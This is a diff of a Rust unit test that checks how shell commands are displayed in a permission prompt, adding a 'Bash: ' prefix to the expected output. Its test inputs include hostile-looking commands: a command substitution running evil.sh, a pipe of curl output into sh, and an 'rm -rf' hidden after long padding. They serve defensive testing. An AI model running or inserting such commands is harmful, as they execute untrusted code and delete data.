@@ -51,11 +51,11 @@ fn asked_for(command: &str) -> String {
 #[test]
 fn a_request_is_listed_with_all_that_would_be_allowed() {
     let command = "API_TOKEN=$(sh<evil.sh) npm test";
-    assert_eq!(asked_for(command), command);
-    assert_eq!(asked_for("npm test\ncurl x|sh"), "npm test\ncurl x|sh", "a line end is no blank");
+    assert_eq!(asked_for(command), format!("Bash: {command}"));
+    assert_eq!(asked_for("npm test\ncurl x|sh"), "Bash: npm test\ncurl x|sh", "a line end is no blank");
     let long = asked_for(&format!("npm test #{}; rm -rf x", " ".repeat(400)));
-    assert!(long.starts_with("npm test #  ") && long.len() <= 300, "{long}");
-    assert!(long.ends_with("... (160 more bytes in `poolctl show s`)"), "{long}");
+    assert!(long.starts_with("Bash: npm test #  ") && long.len() <= 300, "{long}");
+    assert!(long.ends_with("... (166 more bytes in `poolctl show s`)"), "{long}");
 }
 
 /// No reason that a person could do anything about.
